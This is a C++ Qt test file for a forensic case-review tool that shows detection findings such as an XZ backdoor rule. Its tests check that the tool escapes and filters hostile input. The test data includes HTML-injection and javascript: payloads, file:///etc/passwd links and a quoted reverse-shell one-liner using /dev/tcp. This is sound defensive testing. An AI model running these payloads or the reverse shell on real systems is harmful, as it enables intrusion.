#include "analysis/process_tree.h"
#include "analysis/verdicts.h"
#include "finding_steps.h"
#include "models/event_table_model.h"
#include "models/findings_model.h"
#include "models/process_tree_model.h"
#include "plain_tool_tip.h"
#include "review_state.h"
#include "rules/builtin_rules.h"
#include "sample_case.h"
#include "scan/rule_runner.h"
#include "store/case_file.h"
#include "store/statement.h"
#include "web_links.h"
#include "widgets/event_detail_view.h"
#include "widgets/finding_detail_view.h"

#include <QAbstractItemModelTester>
#include <QLabel>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QTextBlock>
#include <QTextBrowser>
#include <QTextDocument>
#include <QUrl>
#include <functional>
#include <memory>

using spoor::analysis::GroupKey;
using spoor::store::CaseFile;
using spoor::ui::EventTableModel;
using spoor::ui::FindingsModel;
using spoor::ui::ProcessTreeModel;

namespace {

std::int64_t scalar(CaseFile& caseFile, const char* sql)
{
    auto statement = caseFile.db().prepare(sql);
    statement.step();
    return statement.int64(0);
}

// Expands every level of a lazy tree by calling fetchMore as a view would.
int fetchAll(QAbstractItemModel& model, const QModelIndex& parent = {})
{
    while (model.canFetchMore(parent))
        model.fetchMore(parent);
    int count = model.rowCount(parent);
    for (int row = 0; row < model.rowCount(parent); ++row)
        count += fetchAll(model, model.index(row, 0, parent));
    return count;
}

// Shows a case in the model and waits until the worker has read the order of its rows.
bool loadEvents(EventTableModel& model, std::shared_ptr<CaseFile> caseFile)
{
    model.setCase(std::move(caseFile));
    return QTest::qWaitFor([&model] { return !model.isLoading(); }, 30000) && model.rowCount() > 0;
}

// Returns a copy of the built-in XZ rule with the given references and Markdown note, as a newer version so
// that it runs as a rule of its own.
spoor::rules::Rule ruleWithNote(const std::string& references, const std::string& note)
{
    spoor::rules::Rule rule = spoor::rules::builtinRules().front();
    std::string& toml = rule.tomlText;
    const std::size_t start = toml.find("references =");
    toml.replace(start, toml.find('\n', start) - start, "references = " + references);
    toml.insert(toml.find("[rule]\n") + 7, "note = '''" + note + "'''\n");
    rule.updatedDate = "2024/05/01";
    return rule;
}

// Returns the first block of the document whose text is text, or an invalid block.
QTextBlock blockWithText(const QTextDocument& document, const QString& text)
{
    for (QTextBlock block = document.begin(); block.isValid(); block = block.next()) {
        if (block.text() == text)
            return block;
    }
    return {};
}

} // namespace

class TestGuiModels : public QObject
{
    Q_OBJECT

private slots:
    void initTestCase()
    {
        const QString dump = sampleDumpPath();
        if (dump.isEmpty())
            return;
        QVERIFY(dir_.isValid());
        casePath_ = dir_.filePath(QStringLiteral("models.spoor"));
        const spoor::ui::ImportOutcome outcome = importSample(dump, casePath_);
        QVERIFY(outcome.imported);
        QVERIFY(!outcome.cancelled);
        caseFile_ = std::make_shared<CaseFile>(CaseFile::open(casePath_.toStdString(), CaseFile::Access::ReadOnly));
    }

    void eventModelPassesTester()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        QSignalSpy loaded(&model, &EventTableModel::loaded);
        model.setCase(caseFile_);
        QVERIFY(model.isLoading());
        QCOMPARE(model.rowCount(), 0);
        QTRY_COMPARE(loaded.count(), 1);
        QCOMPARE(model.rowCount(), int(scalar(*caseFile_, "SELECT count(*) FROM events")));
        QCOMPARE(model.columnCount(), int(EventTableModel::ColumnCount));
        // The last chunk has not been requested by the tester: a placeholder until the worker delivers it.
        const QModelIndex last = model.index(model.rowCount() - 1, EventTableModel::TimeColumn);
        QVERIFY(model.rowCount() > EventTableModel::chunkSize);
        QCOMPARE(last.data().toString(), QStringLiteral("…"));
        QTRY_VERIFY(last.data(EventTableModel::RowLoadedRole).toBool());
        QVERIFY(last.data().toString() != QStringLiteral("…"));

        model.sort(EventTableModel::HostColumn, Qt::DescendingOrder);
        QTRY_COMPARE(loaded.count(), 2);
        model.setCase(nullptr);
        QCOMPARE(model.rowCount(), 0);
        QVERIFY(!model.isLoading());
    }

    void eventModelIsInTimeOrder()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        qint64 previous = std::numeric_limits<qint64>::min();
        for (int row = 0; row < model.rowCount(); ++row) {
            const QModelIndex index = model.index(row, 0);
            QTRY_VERIFY(index.data(EventTableModel::RowLoadedRole).toBool());
            const QVariant time = index.data(EventTableModel::TimestampNsRole);
            const qint64 current = time.isValid() ? time.value<qint64>() : std::numeric_limits<qint64>::min();
            QVERIFY2(current >= previous,
                     qPrintable(QStringLiteral("row %1 is earlier than row %2").arg(row).arg(row - 1)));
            previous = current;
        }
    }

    void eventModelSortsByIndexedColumns_data()
    {
        QTest::addColumn<int>("column");
        QTest::addColumn<QString>("orderBy");
        QTest::newRow("time") << int(EventTableModel::TimeColumn) << QStringLiteral("timestamp_ns DESC, id DESC");
        QTest::newRow("host") << int(EventTableModel::HostColumn)
                              << QStringLiteral("host_id DESC, timestamp_ns DESC, id DESC");
        QTest::newRow("entity") << int(EventTableModel::EntityColumn) << QStringLiteral("entity_id DESC, id DESC");
        QTest::newRow("source") << int(EventTableModel::SourceColumn)
                                << QStringLiteral("source_id DESC, line DESC, id DESC");
    }

    void eventModelSortsByIndexedColumns()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QFETCH(int, column);
        QFETCH(QString, orderBy);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        QVERIFY(EventTableModel::isSortable(column));
        model.sort(column, Qt::DescendingOrder);
        QTRY_VERIFY(!model.isLoading());
        auto select = caseFile_->db().prepare("SELECT id FROM events ORDER BY " + orderBy.toStdString());
        int row = 0;
        while (select.step())
            QCOMPARE(model.eventId(row++), select.int64(0));
        QCOMPARE(row, model.rowCount());
    }

    void eventModelIgnoresUnindexedSort()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        const std::int64_t first = model.eventId(0);
        QVERIFY(!EventTableModel::isSortable(EventTableModel::CommandLineColumn));
        model.sort(EventTableModel::CommandLineColumn, Qt::DescendingOrder);
        QVERIFY(!model.isLoading());
        QCOMPARE(model.sortColumn(), int(EventTableModel::TimeColumn));
        QCOMPARE(model.eventId(0), first);
        QVERIFY(model.headerData(EventTableModel::CommandLineColumn, Qt::Horizontal, Qt::ToolTipRole)
                    .toString()
                    .contains(QLatin1String("Not sortable")));
    }

    void eventModelKeepsCacheBounded()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        for (int row = 0; row < model.rowCount(); row += EventTableModel::chunkSize) {
            QTRY_VERIFY(model.index(row, 0).data(EventTableModel::RowLoadedRole).toBool());
            QVERIFY(model.cachedChunkCount() <= EventTableModel::maxCachedChunks);
        }
        QVERIFY(model.cachedChunkCount() > 0);
    }

    void eventModelRowOfEventRoundTrips()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        for (int row : {0, 1, 255, 256, 257, 511, 512, model.rowCount() / 2, model.rowCount() - 1}) {
            const std::int64_t id = model.eventId(row);
            QVERIFY2(id != 0, qPrintable(QStringLiteral("row %1 has no event").arg(row)));
            QCOMPARE(model.rowOfEvent(id), row);
            QCOMPARE(model.index(row, 0).data(EventTableModel::EventIdRole).value<qint64>(), id);
        }
        QCOMPARE(model.rowOfEvent(-5), -1);
    }

    void eventModelRowsMatchAfterBackwardJump()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        EventTableModel model;
        QVERIFY(loadEvents(model, caseFile_));
        auto select = caseFile_->db().prepare("SELECT id, process_name FROM events ORDER BY timestamp_ns, id");
        std::vector<std::pair<std::int64_t, QString>> expected;
        while (select.step())
            expected.emplace_back(select.int64(0), QString::fromStdString(select.text(1)));
        for (int row = model.rowCount() - 1; row >= 0; row -= 97) {
            const QModelIndex index = model.index(row, EventTableModel::ProcessNameColumn);
            QTRY_VERIFY(index.data(EventTableModel::RowLoadedRole).toBool());
            QCOMPARE(index.data(EventTableModel::EventIdRole).value<qint64>(), expected[std::size_t(row)].first);
            QCOMPARE(index.data().toString(), expected[std::size_t(row)].second);
        }
    }

    void findingsModelPassesTester()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        FindingsModel model;
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        model.setCase(caseFile_);
        QVERIFY(model.rowCount() > 0);
        QCOMPARE(model.rowCount(), int(scalar(*caseFile_, "SELECT count(*) FROM findings")));
        QCOMPARE(model.findingCount(), model.rowCount());
        for (int row = 0; row < model.rowCount(); ++row) {
            const QModelIndex index = model.index(row, 0);
            QCOMPARE(model.index(row, FindingsModel::StepsColumn).data().toInt(), 4);
            QCOMPARE(model.indexOfFinding(model.findingId(index)), index);
            QVERIFY(!model.isGroup(index));
            QCOMPARE(model.rowCount(index), 0);
        }
    }

    void findingsModelLoadsInBackground()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        FindingsModel expected;
        expected.setCase(caseFile_);
        QVERIFY(expected.rowCount() > 0);
        QVERIFY(!expected.isLoading());

        FindingsModel model;
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        model.setSynchronousLoadLimit(0);
        QSignalSpy loaded(&model, &FindingsModel::loaded);
        model.setCase(caseFile_);
        QVERIFY(model.isLoading());
        QCOMPARE(model.rowCount(), 0);
        QVERIFY(loaded.wait(30000));
        QVERIFY(!model.isLoading());
        QCOMPARE(model.rowCount(), expected.rowCount());
        for (int row = 0; row < model.rowCount(); ++row)
            QCOMPARE(model.findingId(model.index(row, 0)), expected.findingId(expected.index(row, 0)));

        // A reload of the same case keeps the rows until the new ones arrive.
        model.setHideBenign(true);
        QVERIFY(model.isLoading());
        QCOMPARE(model.rowCount(), expected.rowCount());
        QVERIFY(loaded.wait(30000));
        QCOMPARE(loaded.count(), 2);
    }

    void findingsModelListsLatestRunOnly()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString copy = dir.filePath(QStringLiteral("rerun.spoor"));
        importSample(sampleDumpPath(), copy);
        spoor::ui::JobContext context;
        spoor::ui::runImport({copy, {}, true, {}}, context); // a second run of the same rule
        auto caseFile = std::make_shared<CaseFile>(CaseFile::open(copy.toStdString(), CaseFile::Access::ReadOnly));
        const std::int64_t all = scalar(*caseFile, "SELECT count(*) FROM findings");
        FindingsModel model;
        model.setCase(caseFile);
        QVERIFY(model.findingCount() > 0);
        QCOMPARE(all, 2 * std::int64_t(model.findingCount()));
    }

    void processModelPassesTester()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        ProcessTreeModel model;
        model.setCase(caseFile_);
        // Attached after the reset: Qt 6.4's tester runs fetchMore from its modelReset slot before it
        // marks the reset finished, and then reports the rows that fetchMore inserts as overlapping it.
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        QVERIFY(model.rowCount() > 0);
        const int processes = int(scalar(*caseFile_, "SELECT count(*) FROM processes"));
        const int hosts = model.rowCount();
        const int unknownParents = int(
            scalar(*caseFile_,
                   "SELECT count(DISTINCT host_id) FROM processes WHERE parent_id IS NULL AND parent_key IS NOT NULL"));
        QCOMPARE(fetchAll(model), hosts + unknownParents + processes);
    }

    void processModelPagesWideLevels()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        ProcessTreeModel whole;
        whole.setCase(caseFile_);
        ProcessTreeModel paged;
        paged.setPageSize(3);
        paged.setCase(caseFile_);
        QAbstractItemModelTester tester(&paged, QAbstractItemModelTester::FailureReportingMode::QtTest);
        QCOMPARE(fetchAll(paged), fetchAll(whole));
        // Every row, read a page of three at a time, is the row that one query over the level returns.
        std::function<void(const QModelIndex&, const QModelIndex&)> compareLevel = [&](const QModelIndex& left,
                                                                                       const QModelIndex& right) {
            QCOMPARE(paged.rowCount(left), whole.rowCount(right));
            for (int row = 0; row < paged.rowCount(left); ++row) {
                const QModelIndex pagedRow = paged.index(row, 0, left);
                const QModelIndex wholeRow = whole.index(row, 0, right);
                QCOMPARE(pagedRow.data(ProcessTreeModel::ProcessIdRole),
                         wholeRow.data(ProcessTreeModel::ProcessIdRole));
                QCOMPARE(pagedRow.data().toString(), wholeRow.data().toString());
                compareLevel(pagedRow, wholeRow);
            }
        };
        compareLevel({}, {});
    }

    void processModelRevealReadsOnePage()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        constexpr int pageSize = 4;
        // The last child of the process with the most children, and the last orphan.
        const std::int64_t parentId = scalar(*caseFile_, "SELECT parent_id FROM processes WHERE parent_id IS NOT NULL "
                                                         "GROUP BY parent_id ORDER BY count(*) DESC LIMIT 1");
        const std::int64_t children = scalar(
            *caseFile_, ("SELECT count(*) FROM processes WHERE parent_id = " + std::to_string(parentId)).c_str());
        QVERIFY2(children > 2 * pageSize, qPrintable(QString::number(children)));
        const std::int64_t lastChild =
            scalar(*caseFile_, ("SELECT id FROM processes WHERE parent_id = " + std::to_string(parentId) +
                                " ORDER BY start_ns DESC, id DESC LIMIT 1")
                                   .c_str());
        const std::int64_t lastOrphan =
            scalar(*caseFile_, "SELECT coalesce(max(id), 0) FROM processes WHERE parent_id IS NULL AND "
                               "parent_key IS NOT NULL AND start_ns = (SELECT max(start_ns) FROM processes "
                               "WHERE parent_id IS NULL AND parent_key IS NOT NULL)");

        ProcessTreeModel model;
        model.setPageSize(pageSize);
        model.setCase(caseFile_);
        // No QAbstractItemModelTester here: after each insertion it walks every row, which reads every page.
        const QModelIndex child = model.indexForProcess(lastChild);
        QVERIFY(child.isValid());
        QCOMPARE(model.processId(child), lastChild);
        QCOMPARE(child.row(), int(children) - 1);
        const QModelIndex parent = child.parent();
        QCOMPARE(model.processId(parent), parentId);
        // Every row of the wide level exists, but only the target's page was read.
        QCOMPARE(model.rowCount(parent), int(children));
        QVERIFY2(model.loadedRowCount(parent) <= pageSize, qPrintable(QString::number(model.loadedRowCount(parent))));
        QVERIFY(model.loadedRowCount(parent) >= 1);
        // So on every level above it, with the host's "unknown parent" item as one more row.
        for (QModelIndex level = parent.parent(); level.isValid(); level = level.parent())
            QVERIFY(model.loadedRowCount(level) <= pageSize + 1);

        if (lastOrphan > 0) {
            const QModelIndex orphan = model.indexForProcess(lastOrphan);
            QVERIFY(orphan.isValid());
            QCOMPARE(model.processId(orphan), lastOrphan);
            QCOMPARE(orphan.parent().data().toString(), QStringLiteral("unknown parent"));
            QVERIFY(model.loadedRowCount(orphan.parent()) <= pageSize);
        }
    }

    void processModelCountsHostsInBackground()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        ProcessTreeModel expected;
        expected.setCase(caseFile_);
        QVERIFY(expected.rowCount() > 0);

        ProcessTreeModel model;
        model.setSynchronousLoadLimit(0);
        QSignalSpy inserted(&model, &QAbstractItemModel::rowsInserted);
        model.setCase(caseFile_);
        QVERIFY(model.isLoading());
        QCOMPARE(model.rowCount(), 0);
        QTRY_VERIFY_WITH_TIMEOUT(!model.isLoading(), 30000);
        QCOMPARE(inserted.count(), 1);
        QCOMPARE(model.rowCount(), expected.rowCount());
        for (int row = 0; row < model.rowCount(); ++row)
            QCOMPARE(model.index(row, 0).data().toString(), expected.index(row, 0).data().toString());
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        QCOMPARE(fetchAll(model), fetchAll(expected));
    }

    void processModelFindsStepProcesses()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        ProcessTreeModel model;
        model.setCase(caseFile_);
        // Attached after the reset: Qt 6.4's tester runs fetchMore from its modelReset slot before it
        // marks the reset finished, and then reports the rows that fetchMore inserts as overlapping it.
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        const std::vector<std::int64_t> events = spoor::ui::loadAllFindingEvents(caseFile_->db());
        QVERIFY(!events.empty());
        std::map<std::int64_t, spoor::ui::ReviewState> processes;
        for (const std::int64_t event : events) {
            const auto process = spoor::analysis::processForEvent(caseFile_->db(), event);
            QVERIFY2(process, qPrintable(QStringLiteral("event %1 has no process").arg(event)));
            processes.emplace(process->id, spoor::ui::ReviewState::Malicious);
            const QModelIndex index = model.indexForProcess(process->id);
            QVERIFY(index.isValid());
            QCOMPARE(model.processId(index), process->id);
            QCOMPARE(index.data(ProcessTreeModel::ProcessIdRole).value<qint64>(), process->id);
        }
        model.setFindingProcesses(processes);
        const QModelIndex marked = model.indexForProcess(processes.begin()->first);
        QVERIFY(marked.data(ProcessTreeModel::InFindingRole).toBool());
        QVERIFY(!marked.data(Qt::DecorationRole).isNull());
        QCOMPARE(marked.data(ProcessTreeModel::ReviewStateRole).toInt(), int(spoor::ui::ReviewState::Malicious));
        QVERIFY(marked.data(Qt::ToolTipRole).toString().contains(QLatin1String("malicious")));
        QVERIFY(!model.indexForProcess(-1).isValid());
    }

    void findingsModelGroupsPassTester_data()
    {
        QTest::addColumn<int>("key");
        QTest::newRow("rule version") << int(GroupKey::RuleVersion);
        QTest::newRow("host") << int(GroupKey::Host);
        QTest::newRow("user") << int(GroupKey::User);
        QTest::newRow("command line") << int(GroupKey::StepCommandLine);
        QTest::newRow("executable") << int(GroupKey::StepExecutable);
        QTest::newRow("process name") << int(GroupKey::StepProcessName);
        QTest::newRow("parent") << int(GroupKey::StepParent);
    }

    void findingsModelGroupsPassTester()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QFETCH(int, key);
        FindingsModel model;
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        model.setCase(caseFile_);
        model.setGrouping(GroupKey(key), 1);
        const int findings = int(scalar(*caseFile_, "SELECT count(*) FROM findings"));
        QCOMPARE(model.findingCount(), findings);
        int listed = 0;
        int previous = std::numeric_limits<int>::max();
        for (int row = 0; row < model.rowCount(); ++row) {
            const QModelIndex group = model.index(row, 0);
            QVERIFY(model.isGroup(group));
            QVERIFY(group.data(FindingsModel::IsGroupRole).toBool());
            const int children = model.rowCount(group);
            QVERIFY(children <= previous);
            previous = children;
            QCOMPARE(group.siblingAtColumn(FindingsModel::CountColumn).data().toString(), QString::number(children));
            QCOMPARE(int(model.findingIds(group).size()), children);
            for (int child = 0; child < children; ++child) {
                const QModelIndex finding = model.index(child, 0, group);
                QCOMPARE(finding.parent(), group);
                QCOMPARE(model.indexOfFinding(model.findingId(finding)), finding);
            }
            listed += children;
        }
        QCOMPARE(listed, findings);
        model.setGrouping(std::nullopt);
        QCOMPARE(model.rowCount(), findings);
    }

    void findingsModelKeepsVerdictAfterRerun()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("rerun-verdict.spoor"));
        importSample(sampleDumpPath(), path);
        std::int64_t judged = 0;
        {
            auto caseFile = CaseFile::open(path.toStdString());
            judged = scalar(caseFile, "SELECT min(id) FROM findings");
            spoor::analysis::setVerdict(caseFile.db(), {judged}, spoor::analysis::Verdict::Malicious, "payload");
        }
        spoor::ui::JobContext context;
        spoor::ui::runImport({path, {}, true, {}}, context); // the rules run again, as after an import

        auto caseFile = std::make_shared<CaseFile>(CaseFile::open(path.toStdString(), CaseFile::Access::ReadOnly));
        const std::int64_t copy = scalar(*caseFile, "SELECT max(id) FROM findings WHERE verdict IS NOT NULL");
        QVERIFY(copy > judged);
        FindingsModel model;
        model.setCase(caseFile);
        QVERIFY(!model.indexOfFinding(judged).isValid());
        const QModelIndex shown = model.indexOfFinding(copy);
        QVERIFY(shown.isValid());
        QCOMPARE(shown.data(FindingsModel::VerdictRole).toString(), QStringLiteral("malicious"));
        const QString tip = shown.siblingAtColumn(FindingsModel::VerdictColumn).data(Qt::ToolTipRole).toString();
        QVERIFY2(tip.contains(QStringLiteral("Copied from finding %1: payload").arg(judged)), qPrintable(tip));
    }

    void findingsModelShowsAndHidesBenign()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("verdicts.spoor"));
        importSample(sampleDumpPath(), path);
        auto caseFile = std::make_shared<CaseFile>(CaseFile::open(path.toStdString()));
        FindingsModel model;
        QAbstractItemModelTester tester(&model, QAbstractItemModelTester::FailureReportingMode::QtTest);
        model.setCase(caseFile);
        model.setGrouping(GroupKey::StepCommandLine, 1);
        const int findings = model.findingCount();
        const QModelIndex largest = model.index(0, 0);
        const std::vector<std::int64_t> benign = model.findingIds(largest);
        QVERIFY(benign.size() > 1);
        spoor::analysis::setVerdict(caseFile->db(), benign, spoor::analysis::Verdict::Benign, "pam_motd");
        spoor::analysis::setVerdict(caseFile->db(), {model.findingId(model.index(0, 0, model.index(1, 0)))},
                                    spoor::analysis::Verdict::Malicious, "checked");
        model.reload();

        const QModelIndex marked = model.indexOfFinding(benign.front());
        QCOMPARE(marked.data(FindingsModel::VerdictRole).toString(), QStringLiteral("benign"));
        QCOMPARE(marked.siblingAtColumn(FindingsModel::VerdictColumn).data().toString(), QStringLiteral("benign"));
        QVERIFY(marked.siblingAtColumn(FindingsModel::VerdictColumn)
                    .data(Qt::ToolTipRole)
                    .toString()
                    .contains(QLatin1String("pam_motd")));
        QVERIFY(!marked.siblingAtColumn(FindingsModel::VerdictColumn).data(Qt::DecorationRole).isNull());
        QCOMPARE(model.index(0, 0).data(FindingsModel::ReviewStateRole).toInt(), int(spoor::ui::ReviewState::Benign));
        QCOMPARE(model.index(1, 0).data(FindingsModel::ReviewStateRole).toInt(),
                 int(spoor::ui::ReviewState::Malicious));

        model.setHideBenign(true);
        QCOMPARE(model.findingCount(), findings - int(benign.size()));
        QVERIFY(!model.indexOfFinding(benign.front()).isValid());
        for (int row = 0; row < model.rowCount(); ++row)
            QVERIFY(model.index(row, 0).data(FindingsModel::ReviewStateRole).toInt() !=
                    int(spoor::ui::ReviewState::Benign));
        model.setHideBenign(false);
        QCOMPARE(model.findingCount(), findings);
    }

    void findingDetailExplainsFinding()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("note.spoor"));
        importSample(sampleDumpPath(), path);
        auto caseFile = CaseFile::open(path.toStdString());
        // The 2024-04-01 rule has no investigation guide, so a copy with a Markdown note is run.
        spoor::rules::Rule rule = spoor::rules::builtinRules().front();
        const std::string note = "note = \"\"\"\n## Triage\n\n- Check the **parent** of step 2\n\"\"\"\n";
        rule.tomlText.insert(rule.tomlText.find("[rule]\n") + 7, note);
        rule.updatedDate = "2024/05/01";
        const auto runs = spoor::scan::runRules(caseFile, {rule});
        QCOMPARE(runs.size(), std::size_t(1));
        QVERIFY(!runs.front().findingIds.empty());
        const std::int64_t findingId = runs.front().findingIds.front();
        spoor::analysis::setVerdict(caseFile.db(), {findingId}, spoor::analysis::Verdict::Benign, "pam_motd login");

        spoor::ui::FindingDetailView view;
        view.setFinding(caseFile.db(), findingId);
        QCOMPARE(view.findingId(), findingId);
        const QString text = view.browser()->toPlainText();
        QVERIFY2(text.contains(QLatin1String("Potential Execution via XZBackdoor")), qPrintable(text));
        QVERIFY(text.contains(QLatin1String("benign")));
        QVERIFY(text.contains(QLatin1String("pam_motd login")));
        QVERIFY(text.contains(QLatin1String("host.id = ")));
        QVERIFY(text.contains(QLatin1String("/usr/sbin/sshd -D -R")));
        QVERIFY(text.contains(QLatin1String("T1021.004")));
        QVERIFY(text.contains(QLatin1String("Investigation guide")));
        QVERIFY(text.contains(QLatin1String("Check the parent of step 2")));
        QVERIFY(!text.contains(QLatin1String("**")));
        const QString html = view.browser()->toHtml();
        QVERIFY(html.contains(QLatin1String("https://attack.mitre.org/techniques/T1021/004/")));
        QVERIFY(html.contains(QLatin1String("font-weight:700")) || html.contains(QLatin1String("font-weight:600")));

        view.setFinding(caseFile.db(), 999999);
        QVERIFY(view.browser()->toPlainText().contains(QLatin1String("not in the case")));
    }

    void eventDetailShowsSourceAsText()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("source.spoor"));
        importSample(dump, path);
        auto caseFile = CaseFile::open(path.toStdString());
        const QString name = QStringLiteral("dump<h1><font color=red>INJECTED<a href=https:evil.example>x.ndjson");
        auto update = caseFile.db().prepare("UPDATE sources SET path = ?");
        update.bind(1, QString(QStringLiteral("/evidence/") + name).toStdString());
        update.step();

        spoor::ui::EventDetailView view;
        view.setEvent(caseFile.db(), scalar(caseFile, "SELECT min(id) FROM events"));
        const auto* source = view.findChild<QLabel*>(QStringLiteral("eventSource"));
        QVERIFY(source);
        QCOMPARE(source->textFormat(), Qt::PlainText);
        QVERIFY2(source->text().startsWith(name + QLatin1String(", line ")), qPrintable(source->text()));
        // The tool tip is rich text that shows the path literally.
        QTextDocument toolTip;
        toolTip.setHtml(source->toolTip());
        QCOMPARE(toolTip.toPlainText(), QStringLiteral("/evidence/") + name);
    }

    void plainToolTipShowsTags()
    {
        const QString text = QStringLiteral("sh -c 'cat <b>x</b> &amp; <img src=/etc/passwd>'\nsecond  line");
        const QString toolTip = spoor::ui::plainToolTip(text);
        // QToolTip decides with Qt::mightBeRichText, and only rich text is read as HTML.
        QVERIFY(Qt::mightBeRichText(toolTip));
        QTextDocument document;
        document.setHtml(toolTip);
        QCOMPARE(document.toPlainText(), text);
        QVERIFY(spoor::ui::plainToolTip(QString()).isEmpty());
    }

    void findingDetailLinksOnlyWebReferences()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("links.spoor"));
        importSample(dump, path);
        auto caseFile = CaseFile::open(path.toStdString());
        const auto rule =
            ruleWithNote(R"x(["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", )x"
                         R"x("https://example.org/a?b=1", "file:///etc/passwd"])x",
                         "## Triage\n\n[run](javascript:alert(3)) and [read](https://example.org/guide)\n");
        const auto runs = spoor::scan::runRules(caseFile, {rule});
        QCOMPARE(runs.size(), std::size_t(1));
        QVERIFY(!runs.front().findingIds.empty());

        spoor::ui::FindingDetailView view;
        view.setFinding(caseFile.db(), runs.front().findingIds.front());
        QTextBrowser* browser = view.browser();
        QVERIFY(!browser->openExternalLinks());
        QVERIFY(!browser->openLinks());
        QStringList anchors;
        for (QTextBlock block = browser->document()->begin(); block.isValid(); block = block.next()) {
            for (auto fragment = block.begin(); !fragment.atEnd(); ++fragment) {
                if (fragment.fragment().charFormat().isAnchor())
                    anchors.append(fragment.fragment().charFormat().anchorHref());
            }
        }
        const QString list = anchors.join(QLatin1Char(' '));
        QVERIFY2(anchors.contains(QStringLiteral("https://example.org/a?b=1")), qPrintable(list));
        QVERIFY2(anchors.contains(QStringLiteral("https://example.org/guide")), qPrintable(list));
        QVERIFY2(anchors.contains(QStringLiteral("https://attack.mitre.org/techniques/T1021/004/")), qPrintable(list));
        for (const QString& anchor : anchors)
            QVERIFY2(anchor.startsWith(QLatin1String("https://")), qPrintable(anchor));
        // The references that are not web links are still listed, as text.
        const QString text = browser->toPlainText();
        QVERIFY2(text.contains(QLatin1String("javascript:alert(1)")), qPrintable(text));
        QVERIFY(text.contains(QLatin1String("data:text/html,<script>alert(2)</script>")));
        QVERIFY(text.contains(QLatin1String("file:///etc/passwd")));
        QVERIFY(text.contains(QLatin1String("run and read")));

        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("https://example.org/"))));
        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("HTTP://example.org/"))));
        QVERIFY(spoor::ui::isWebLink(QUrl(QStringLiteral("mailto:soc@example.org"))));
        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("javascript:alert(1)"))));
        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("data:text/html,x"))));
        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("file:///etc/passwd"))));
        QVERIFY(!spoor::ui::isWebLink(QUrl(QStringLiteral("https:evil.example"))));
    }

    void findingDetailGuideKeepsTags()
    {
        SPOOR_REQUIRE_SAMPLE(dump);
        QTemporaryDir dir;
        const QString path = dir.filePath(QStringLiteral("guide.spoor"));
        importSample(dump, path);
        auto caseFile = CaseFile::open(path.toStdString());
        const auto rule = ruleWithNote(R"(["https://example.org/"])",
                                       "## Triage and analysis\n\n"
                                       "- Escalate on a reverse shell (bash -i >& /dev/tcp/<IP>/<port>).\n"
                                       "- <script>alert(6)</script> then <b>bold</b>\n\n"
                                       "### Response\n\nIsolate the host.\n");
        const auto runs = spoor::scan::runRules(caseFile, {rule});
        QCOMPARE(runs.size(), std::size_t(1));
        QVERIFY(!runs.front().findingIds.empty());

        spoor::ui::FindingDetailView view;
        view.setFinding(caseFile.db(), runs.front().findingIds.front());
        const QTextDocument& document = *view.browser()->document();
        const QString text = document.toPlainText();
        QVERIFY2(text.contains(QLatin1String("bash -i >& /dev/tcp/<IP>/<port>")), qPrintable(text));
        QVERIFY(text.contains(QLatin1String("<script>alert(6)</script> then <b>bold</b>")));
        QVERIFY(text.contains(QLatin1String("Isolate the host.")));

        // The guide's heading and the note's first heading are blocks of their own, outside the ATT&CK list.
        const QTextBlock guide = blockWithText(document, QStringLiteral("Investigation guide"));
        QVERIFY2(guide.isValid(), qPrintable(text));
        QVERIFY(!guide.textList());
        QCOMPARE(guide.blockFormat().headingLevel(), 4);
        const QTextBlock triage = blockWithText(document, QStringLiteral("Triage and analysis"));
        QVERIFY(triage.isValid());
        QVERIFY(!triage.textList());
        QCOMPARE(triage.blockFormat().headingLevel(), 2);
        QCOMPARE(triage.previous(), guide);
        const QTextBlock references = blockWithText(document, QStringLiteral("References"));
        QVERIFY(references.isValid());
        QVERIFY(!references.textList());
        // No list item is empty, as a stray bullet would be.
